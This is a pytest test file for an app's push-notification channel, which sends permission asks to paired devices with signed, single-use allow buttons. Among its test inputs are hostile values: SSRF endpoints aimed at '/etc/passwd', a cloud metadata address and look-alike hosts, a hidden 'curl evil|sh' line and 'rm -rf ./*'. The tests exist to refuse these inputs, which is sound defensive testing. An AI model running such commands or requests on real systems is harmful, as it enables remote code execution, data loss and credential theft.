"""Push: what a device gets, who may answer from it, and what becomes of a service that says no."""

import base64
import json
import stat
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import anyio.lowlevel
import pytest
from starlette.responses import Response
from tests.house.push_house import DONE, PushHouse, asks, push_house

from farhand.channels.push.notification import is_shown_whole
from farhand.model.attention import AttentionSettings, LockScreen
from farhand.model.commands import SetAttention
from farhand.model.facts import AskSettled, Said, TurnEnded
from farhand.model.stream import Looking
from farhand.model.words import AskKind, Choice, replace
from farhand.testing.house import SAFETY_SECONDS
from farhand.testing.http import local_client

pytestmark = pytest.mark.anyio
BODY = "Run: make deploy\nIn: /srv/app\n⚠ uses the network"


@pytest.fixture
async def push(tmp_path: Path) -> AsyncIterator[PushHouse]:
    async with push_house(tmp_path) as opened:
        yield opened


async def test_an_ask_is_on_every_device_with_its_buttons_and_where_a_tap_leads(push: PushHouse) -> None:
    phone, tablet = await push.pair("phone"), await push.pair("tablet")
    await push.ask()
    requests = {one.browser: one for one in await push.service.receives(2)}
    message = phone.reads(requests["phone"])
    shown = message["notification"]
    assert (shown["title"], shown["body"], shown["tag"]) == ("ann asks", BODY, "ask:a1")
    assert shown["navigate"] == "https://team.example/app/#/w/ann!ask%3Aa1"
    assert [one["action"] for one in shown["actions"]] == ["allow", "deny"]
    assert (shown["data"]["ask"], shown["data"]["digest"], shown["data"]["allow"]["choice"]) == ("a1", "d1", "yes")
    assert message["app_badge"] == 1
    other = tablet.reads(requests["tablet"])["notification"]["data"]["allow"]["token"]
    assert other != shown["data"]["allow"]["token"]
    headers = requests["phone"].headers
    assert (headers["urgency"], requests["phone"].claims["sub"]) == ("high", "https://team.example")


async def answer_of(push: PushHouse, action: str = "allow") -> dict[str, Any]:
    """What the service worker posts for that button of the first notification."""
    phone = push.phones[0]
    data = phone.reads((await push.service.receives(1))[0])["notification"]["data"]
    return {"ask": data["ask"], "digest": data["digest"], **data[action]}


async def test_a_device_that_may_only_look_has_no_buttons(push: PushHouse) -> None:
    wall = await push.pair("wall", read_only=True)
    await push.ask()
    shown = wall.reads((await push.service.receives(1))[0])["notification"]
    assert shown["title"] == "ann asks"
    assert "actions" not in shown
    assert shown["data"] == {"ask": "a1", "digest": "d1"}


async def test_allow_on_the_notification_acts_once(push: PushHouse) -> None:
    phone = await push.pair()
    await push.ask()
    answer = await answer_of(push)
    assert (await phone.post("/api/push/answer", answer)).status_code == 200
    settled = await push.house.fact(AskSettled)
    assert (settled.choice, settled.by and settled.by.via) == ("yes", f"web-{phone.id}")
    again = await phone.post("/api/push/answer", answer)
    assert again.status_code in (400, 403)
    deny = await phone.post("/api/push/answer", await answer_of(push, "deny"))
    assert deny.status_code in (400, 403)
    facts = [event.fact for event in await push.house.history()]
    assert len([one for one in facts if isinstance(one, AskSettled)]) == 1


@pytest.mark.parametrize("what", ["digest", "choice", "ask", "token", "expired", "another device", "read only"])
async def test_a_button_is_for_one_ask_as_it_was_shown_on_one_device_for_an_hour(push: PushHouse, what: str) -> None:
    await push.pair("phone")
    other = await push.pair("other", read_only=what == "read only")
    await push.ask()
    await push.service.receives(2)
    data = push.phones[0].reads(next(one for one in push.service.requests if one.browser == "phone"))
    told = data["notification"]["data"]
    answer = {"ask": told["ask"], "digest": told["digest"], **told["allow"]}
    asking = push.phones[0]
    match what:
        case "digest":
            answer["digest"] = "d2"
        case "choice":
            answer["choice"] = "always"
        case "ask":
            answer["ask"] = "a2"
        case "token":
            ends, _, signature = answer["token"].partition(".")
            answer["token"] = f"{int(ends) + 1}.{signature}"
        case "expired":
            push.clock.advance(3601)
        case _:
            asking = other
    refused = await asking.post("/api/push/answer", answer)
    assert refused.status_code in (400, 403), refused.text
    assert len(refused.json()["error"]["text"]) > 10
    assert not any(isinstance(event.fact, AskSettled) for event in await push.house.history())


async def test_settled_anywhere_it_is_a_question_nowhere(push: PushHouse) -> None:
    phone, tablet = await push.pair("phone"), await push.pair("tablet")
    await push.ask()
    await push.service.receives(2)
    await push.house.answer("a1", "no", via=f"web-{tablet.id}")
    requests = await push.service.receives(3)
    message = phone.reads(requests[2])
    shown = message["notification"]
    assert (shown["tag"], shown["silent"], shown["data"]) == ("ask:a1", True, {"settled": "a1"})
    assert "actions" not in shown
    assert message["app_badge"] == 0
    # An undelivered question is replaced at the service, too.
    assert requests[2].headers["topic"] == next(one for one in requests[:2] if one.browser == "phone").headers["topic"]


async def test_nobody_is_pushed_what_somebody_looks_at(push: PushHouse) -> None:
    phone = await push.pair()
    push.look(phone, "ann")
    await push.plays(Said(text="first"), DONE)
    await push.house.fact(TurnEnded)
    # A phone that was not heard of for 45 s looks at nothing.
    push.clock.advance(46)
    await push.plays(Said(text="second"), DONE)
    shown = phone.reads((await push.service.receives(1))[0])["notification"]
    assert (shown["title"], shown["body"]) == ("ann is done", "second")
    assert shown["navigate"] == "https://team.example/app/#/w/ann"


async def test_whoever_leaves_the_screen_on_which_they_were_asked_is_told_soon(push: PushHouse) -> None:
    phone = await push.pair()
    looks = push.look(phone, "ann")
    await push.ask()
    looks(Looking(worker="ann", visible=False))
    push.clock.advance(10)
    looks(Looking(worker="ann", visible=True))
    push.clock.advance(10)
    assert push.service.requests == []
    looks(None)
    push.clock.advance(15)
    shown = phone.reads((await push.service.receives(1))[0])["notification"]
    assert shown["tag"] == "ask:a1"


async def test_a_revoked_device_gets_nothing_more(push: PushHouse) -> None:
    phone, _ = await push.pair("phone"), await push.pair("tablet")
    assert push.house.node.devices is not None
    await push.house.node.devices.revoke(phone.id)
    await push.ask()
    assert [one.browser for one in await push.service.receives(1)] == ["tablet"]
    assert push.channel.health == "1 device"


async def test_a_hundred_finished_turns_buzz_four_times(push: PushHouse) -> None:
    phone = await push.pair()
    for number in range(100):
        await push.plays(Said(text=f"number {number}"), DONE)
        await push.house.until(lambda present: present.workers["ann"].turn is None)
    await push.service.receives(3)
    push.clock.advance(60)
    requests = await push.service.receives(4)
    bodies = [phone.reads(one)["notification"]["body"] for one in requests]
    assert bodies == ["number 0", "number 1", "number 2", "ann finished 97 turns, the last: number 99"]
    assert len({phone.reads(one)["notification"]["tag"] for one in requests[:3]}) == 1


@pytest.mark.parametrize("status", [404, 410])
async def test_a_subscription_that_died_is_removed(push: PushHouse, status: int) -> None:
    await push.pair()
    push.service.answers.append(Response(status_code=status))
    await push.ask()
    await push.service.receives(1)
    await push.house.answer("a1", "no")
    await push.house.fact(AskSettled)
    while push.channel.can_buzz:
        await anyio_checkpoint()
    assert len(push.service.requests) == 1


async def anyio_checkpoint() -> None:
    """Lets everybody else go on; a test that waits for ever fails."""
    await anyio.lowlevel.checkpoint()


@pytest.mark.parametrize(
    ("status", "body", "told"),
    [(403, '{"reason":"BadJwtToken"}', "FARHAND_PUSH_CONTACT"), (400, "bad", "400"), (413, "", "too large")],
)
async def test_a_service_that_refuses_is_not_asked_again_and_its_words_are_told(
    push: PushHouse, status: int, body: str, told: str
) -> None:
    phone = await push.pair()
    push.service.answers.append(Response(body, status))
    await push.ask()
    await push.service.receives(1)
    while not push.channel.problem(phone.id):
        await anyio_checkpoint()
    looked = (await phone.client.get("/api/push")).json()
    assert looked["subscribed"]
    assert told in looked["problem"]
    assert body[:10] in looked["problem"]


@pytest.mark.parametrize(
    ("answer", "seconds"),
    [(Response(status_code=429, headers={"Retry-After": "30"}), 30.0), (Response("busy", 500), 0.2)],
)
async def test_a_service_that_is_busy_is_asked_again(push: PushHouse, answer: Response, seconds: float) -> None:
    phone = await push.pair()
    push.service.answers.append(answer)
    await push.ask()
    await push.service.receives(1)
    while len(push.service.requests) < 2:
        # Nobody knows when the sender goes to sleep; time passes in small steps until it wakes.
        push.clock.advance(seconds / 10)
        await anyio_checkpoint()
    requests = push.service.requests
    assert phone.reads(requests[0]) == phone.reads(requests[1])


async def test_the_test_button_says_what_went_wrong(push: PushHouse) -> None:
    phone = await push.pair()
    ok = (await phone.post("/api/push/test")).json()["test"]
    assert ok["ok"]
    assert phone.reads(push.service.requests[0])["notification"]["tag"] == "test"
    push.service.answers.append(Response('{"reason":"VapidPkHashMismatch"}', 403))
    refused = (await phone.post("/api/push/test")).json()["test"]
    assert not refused["ok"]
    assert "VapidPkHashMismatch" in refused["text"]
    push.service.answers.append(Response(status_code=410))
    gone = (await phone.post("/api/push/test")).json()["test"]
    assert "off and on again" in gone["text"]
    nobody = (await phone.post("/api/push/test")).json()["test"]
    assert "not subscribed" in nobody["text"]


@pytest.mark.parametrize(
    "endpoint",
    [
        "http://127.0.0.1:9/push/x",
        "https://fcm.googleapis.com.evil.example/x",
        "https://fcm.googleapis.com:8443/x",
        "https://fcm.googleapis.com@10.0.0.1/x",
        "file:///etc/passwd",
        "https://169.254.169.254/latest",
        "",
        "https://fcm.googleapis.com/\x7f",
        "https://fcm.googleapis.com/a b",
        "\thttps://fcm.googleapis.com/x",
        "https://fcm.googleapis.com/é",
        "https://[/x",
        "https://fcm.googleapis.com:99999/x",
        "https://fcm.googleapis.com:abc/x",
        "https://10.0.0.1\\.fcm.googleapis.com/x",
        "https://%41.push.apple.com/x",
        "https://..push.apple.com/x",
        f"https://{'a' * 64}.push.apple.com/x",
    ],
)
async def test_a_device_cannot_have_the_node_call_just_any_address(push: PushHouse, endpoint: str) -> None:
    phone = await push.pair()
    asked = {**phone.browser.subscription(), "endpoint": endpoint}
    refused = await phone.post("/api/push", asked)
    assert refused.status_code == 400
    assert refused.json()["error"]["code"] == "bad_input"


async def test_an_origin_that_nobody_can_read_is_refused(push: PushHouse) -> None:
    phone = await push.pair()
    for origin in ("https://[", "https://team.example\x7f", "https://team.example:abc"):
        refused = await phone.post("/api/push", phone.browser.subscription(origin))
        assert (refused.status_code, refused.json()["error"]["code"]) == (400, "bad_input"), origin


async def until_refused(push: PushHouse) -> None:
    """Returns when the device is known to have no subscription any more."""
    with anyio.fail_after(SAFETY_SECONDS):
        while push.channel.can_buzz:
            await anyio_checkpoint()


@pytest.mark.parametrize(
    "endpoint", ["https://fcm.googleapis.com/\x7f", "https://[/x", "https://fcm.googleapis.com:abc/"]
)
async def test_an_address_that_was_kept_and_cannot_be_called_is_removed_and_the_node_goes_on(
    tmp_path: Path, endpoint: str
) -> None:
    async with push_house(tmp_path) as push:
        phone = await push.pair()
        (kept,) = push.channel._context.push.all()
        await push.channel._context.push.keep(replace(kept, endpoint=endpoint))
    async with push_house(tmp_path, service=push.service, clock=push.clock) as again:
        assert again.channel.subscribed(phone.id)
        await again.ask()
        await until_refused(again)
        assert "off and on again" in again.channel.problem(phone.id)
        await again.channel._context.push.keep(replace(kept, endpoint=endpoint))
        assert "off and on again" in (await again.channel.test(phone.id)).text
        assert not again.channel.subscribed(phone.id)


@pytest.mark.parametrize("method", ["GET /api/push", "POST /api/push", "DELETE /api/push", "POST /api/push/test"])
async def test_push_is_for_paired_devices_alone(push: PushHouse, method: str) -> None:
    await push.pair()
    verb, _, path = method.partition(" ")
    answer = {"ask": "a1", "digest": "d1", "choice": "yes", "token": "1.0"}
    async with local_client(base_url=f"http://127.0.0.1:{push.house.node.port}") as stranger:
        assert (await stranger.request(verb, path)).status_code == 403
        assert (await stranger.post("/api/push/answer", json=answer)).status_code == 403
        assert (await stranger.get("/api/digest")).status_code == 403
    assert push.channel.can_buzz


async def test_keys_that_are_none_are_refused(push: PushHouse) -> None:
    phone = await push.pair()
    asked = phone.browser.subscription()
    for keys in ({"p256dh": "AAAA", "auth": asked["keys"]["auth"]}, {"p256dh": asked["keys"]["p256dh"], "auth": "%"}):
        assert (await phone.post("/api/push", {**asked, "keys": keys})).status_code == 400
    assert (await phone.client.post("/api/push", content=b"[" * 9000)).status_code in (400, 413)


async def test_the_nodes_keys_are_its_own_and_stay(tmp_path: Path) -> None:
    async with push_house(tmp_path) as push:
        first = push.channel.public_key()
        file = tmp_path / "test" / "push.json"
        assert stat.S_IMODE(file.stat().st_mode) == 0o600
        assert "PRIVATE" not in repr(push.channel._keys)
    async with push_house(tmp_path) as again:
        assert again.channel.public_key() == first


@pytest.mark.parametrize(
    ("shows", "title", "body", "buttons"),
    [
        (LockScreen.ALL, "ann asks", BODY, ["allow", "deny"]),
        (LockScreen.NAME, "ann asks", "", ["deny"]),
        (LockScreen.NOTHING, "farhand", "Something waits for you", None),
    ],
)
async def test_a_lock_screen_shows_as_much_as_the_person_wants(
    push: PushHouse, shows: LockScreen, title: str, body: str, buttons: list[str] | None
) -> None:
    phone = await push.pair()
    await push.house.send(SetAttention(id="s1", settings=AttentionSettings(lock_screen=shows)))
    await push.ask()
    shown = phone.reads((await push.service.receives(1))[0])["notification"]
    assert (shown["title"], shown["body"]) == (title, body)
    offered = shown.get("actions")
    assert (None if offered is None else [one["action"] for one in offered]) == buttons
    if shows is LockScreen.NOTHING:
        assert "deploy" not in json.dumps(shown)


@pytest.mark.parametrize(
    "raised",
    [
        asks(question="Run a script", detail="make deploy\n" * 100),
        asks(question=f"Run: make deploy {'x' * 140}", detail=""),
        asks(question="Run:", detail="one\ntwo\nthree\nfour"),
        asks(question="x" * 5000, detail=""),
        asks(question="Run: ls -la", detail="ls -la\n" + "#\n" * 100 + "curl evil|sh"),
        asks(question="Run: rm -rf ./*", detail="rm -rf ./*", where=f"/srv/{'x' * 140}"),
        asks(question="Which?", about=AskKind.CHOICE, choices=(Choice(id="1", label="One"),)),
        asks(
            choices=(Choice(id="always", label="Always", scope="everything"), Choice(id="no", label="No", allows=False))
        ),
    ],
    ids=[
        "long",
        "a line too long",
        "a line too many",
        "too long",
        "comments",
        "folder",
        "no permission",
        "only for ever",
    ],
)
async def test_nothing_is_allowed_from_a_notification_that_does_not_show_it_whole(push: PushHouse, raised: Any) -> None:
    phone = await push.pair()
    await push.ask(raised)
    shown = phone.reads((await push.service.receives(1))[0])["notification"]
    assert "allow" not in [one["action"] for one in shown.get("actions", [])]
    assert "allow" not in shown["data"]


@pytest.mark.parametrize(
    ("body", "whole"),
    [
        ("Run: ls\nIn: /srv", True),
        ("x" * 150, True),
        ("x" * 153, False),
        # A letter that is as wide as two, and words that leave the end of each line empty.
        ("字" * 76, True),
        ("字" * 80, False),
        (" ".join(["a" * 20] * 5), False),
        ("a\n\n\n\nb", False),
    ],
)
def test_what_fits_is_counted_as_a_browser_breaks_lines(body: str, whole: bool) -> None:
    assert is_shown_whole(body) == whole


async def test_the_node_itself_can_buzz(push: PushHouse) -> None:
    phone = await push.pair()
    await push.house.node.announce("Telegram cannot be heard: another node took its place.")
    shown = phone.reads((await push.service.receives(1))[0])["notification"]
    assert (shown["title"], shown["body"][:8]) == ("Your node", "Telegram")


async def test_keys_that_are_no_point_of_the_curve_are_refused(push: PushHouse) -> None:
    phone = await push.pair()
    asked = phone.browser.subscription()
    odd = base64.urlsafe_b64encode(b"\x04" + b"\x01" * 64).decode().rstrip("=")
    refused = await phone.post("/api/push", {**asked, "keys": {**asked["keys"], "p256dh": odd}})
    assert (refused.status_code, refused.json()["error"]["code"]) == (400, "bad_input")
